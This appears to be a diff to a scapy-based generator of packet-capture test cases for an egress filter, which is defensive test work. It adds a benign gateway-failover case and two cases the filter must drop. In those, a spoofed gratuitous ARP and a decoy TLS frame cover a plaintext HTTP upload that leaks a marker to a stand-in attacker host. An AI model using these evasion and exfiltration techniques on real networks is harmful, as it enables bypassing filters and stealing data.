@@ -49,7 +49,7 @@ from scapy.layers.inet import ICMP, IP, IPOption_LSRR, TCP, UDP  # noqa: E402
 from scapy.layers.inet6 import HBHOptUnknown, IPv6, IPv6ExtHdrDestOpt, IPv6ExtHdrFragment, IPv6ExtHdrHopByHop  # noqa: E402
 from scapy.layers.dns import DNS, DNSQR, DNSRR  # noqa: E402
 from scapy.packet import Raw  # noqa: E402
-from scapy.layers.l2 import Ether  # noqa: E402
+from scapy.layers.l2 import ARP, Ether  # noqa: E402
 
 # ------------------------------------------------------------ address plan
 # tests/evasion/case.conf: the shipped E2M policy, plus an IPv6 prefix for the
@@ -4578,19 +4578,38 @@ def case_hello_late_ok(n):
     return cap, {"pass": [passm(n)]}
 
 
-@open_case
-def case_gw_failover_ok(n):
-    """The zone's default gateway is an active/standby pair that moves its address by
-    gratuitous ARP (keepalived without use_vmac, Windows/Linux clusters, cloud VIPs):
-    after a failover the client's frames go to the standby's own MAC. An open e2m
-    session goes on through the new gateway."""
+def garp(mac, addr, op=1):
+    """A gratuitous ARP: mac announces addr (sender and target address the
+    same), broadcast; a request by default (keepalived sends requests)."""
+    return Ether(src=mac, dst="ff:ff:ff:ff:ff:ff") / ARP(op=op, hwsrc=mac, psrc=addr, hwdst="00:00:00:00:00:00",
+                                                         pdst=addr)
+
+
+def gw_failover(n, cport, announce):
+    """An e2m session whose gateway (10.10.0.1) moves to the standby's MAC
+    after the first exchange; announce(cap, newgw): the frames in between."""
     cap = Capture()
-    t = rt25_session(cap, 52036, 52036, 81036, n)
+    t = rt25_session(cap, cport, cport, cport + 29000, n)
     t.data(True, tls_appdata(n + "a", 200))
     t.data(False, tls_appdata(n + "b", 500))
     cap.idle(2)
     newgw = "02:00:00:00:fe:02"
-    t.mac_c = newgw
+    announce(cap, newgw)
+    return cap, t, newgw
+
+
+@case
+def case_gw_failover_ok(n):
+    """The zone's default gateway is an active/standby pair that moves its address by
+    gratuitous ARP (keepalived without use_vmac, Windows/Linux clusters, cloud VIPs): the
+    standby sends three gratuitous ARPs for 10.10.0.1 from its own MAC on the outside
+    link, and the client's frames go to that MAC from then on. An open e2m session goes
+    on through the new gateway. (The gateway's address is in the zone's subnet, so the
+    replay is told the client's MAC is the inside side: --inside-mac.)"""
+    def announce(cap, newgw):
+        for i in range(3):
+            cap.emit(garp(newgw, "10.10.0.1"), 1000)
+    cap, t, newgw = gw_failover(n, 52036, announce)
     rec = marked_record(passm(n), n + "c", 200)
     cap.emit(Ether(src=host_mac_rt25(S1), dst=newgw) / IP(src=S1, dst=E2M)
              / TCP(sport=52036, dport=443, flags="PA", seq=t.cseq & M32, ack=t.sseq & M32, window=64240)
@@ -4601,7 +4620,46 @@ def case_gw_failover_ok(n):
     fin = Ether(src=host_mac_rt25(S1), dst=newgw) / IP(src=S1, dst=E2M) / TCP(
         sport=52036, dport=443, flags="A", seq=t.cseq & M32, ack=t.sseq & M32, window=64240)
     cap.emit(fin, 10000)
-    return cap, {"pass": [passm(n), passm(n) + b"srv"]}
+    return cap, {"pass": [passm(n), passm(n) + b"srv"], "replay_args": ["--inside-mac", host_mac_rt25(S1)]}
+
+
+def gw_decoy_then_plain(n, t, cap, newgw):
+    """A decoy record in a frame to newgw, then plaintext HTTP at its place to the
+    real gateway."""
+    http = b"GET /upload HTTP/1.1\r\nHost: " + EVIL_B + b"\r\nX-Id: " + leak(n) + b"\r\n\r\n"
+    decoy = tls_appdata(n + "decoy", len(http) - 5)
+    base = t.cseq
+    pkt = l2(t.c, t.s) / IP(src=t.c, dst=t.s) / TCP(sport=t.cport, dport=t.sport, flags="PA", seq=base & M32,
+                                                 ack=t.sseq & M32, window=64240) / Raw(decoy)
+    pkt[Ether].dst = newgw
+    cap.emit(pkt, 10000)
+    t.raw(True, "PA", http, seq=base)
+    t.cseq = base + len(http)
+    t.data(False, tls_appdata(n + "more", 120))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_garp_inside_decoy(n):
+    """Twin of gw_failover_ok from the other side: the inside client itself sends a
+    gratuitous ARP for a zone address from a MAC of its choosing, then a decoy record in a
+    frame to that MAC (no station on the outside link has it: the server never gets it),
+    then plaintext HTTP at the decoy's place to the real gateway. Only announcements on
+    the outside link count. Must drop."""
+    cap, t, newgw = gw_failover(n, 52043, lambda cap, mac: cap.emit(garp(mac, "10.10.1.10"), 1000))
+    return gw_decoy_then_plain(n, t, cap, newgw)
+
+
+@case
+def case_garp_wrong_mac_decoy(n):
+    """A gratuitous ARP on the outside link announces the standby's MAC, and the decoy
+    record goes in a frame to yet another MAC (no station has it), then plaintext HTTP at
+    its place. Only the announced MAC is taken. Must drop."""
+    def announce(cap, newgw):
+        cap.emit(garp(newgw, "10.10.0.1"), 1000)
+    cap, t, newgw = gw_failover(n, 52044, announce)
+    return gw_decoy_then_plain(n, t, cap, "02:de:ad:be:ef:02")[0], {"leak": [leak(n)], "replay_args": ["--inside-mac", host_mac_rt25(S1)]}
 
 
 def host_mac_rt25(addr):
@@ -7130,6 +7188,12 @@ def write_case(outdir, name):
     cap, markers = (CASES.get(name) or OPEN[name])(name)
     d = os.path.join(outdir, name)
     cap.write(os.path.join(d, "in.pcap"))
+    # more arguments for its replays (run.sh): a side the addresses alone
+    # do not tell (a gateway's ARP from an address of the zone)
+    args = markers.pop("replay_args", None)
+    if args:
+        with open(os.path.join(d, "args"), "w") as f:
+            f.write("".join(a + "\n" for a in args))
     with open(os.path.join(d, "markers.json"), "w") as f:
         json.dump({k: [m.hex() for m in v] for k, v in markers.items()}, f, indent=1, sort_keys=True)
         f.write("\n")
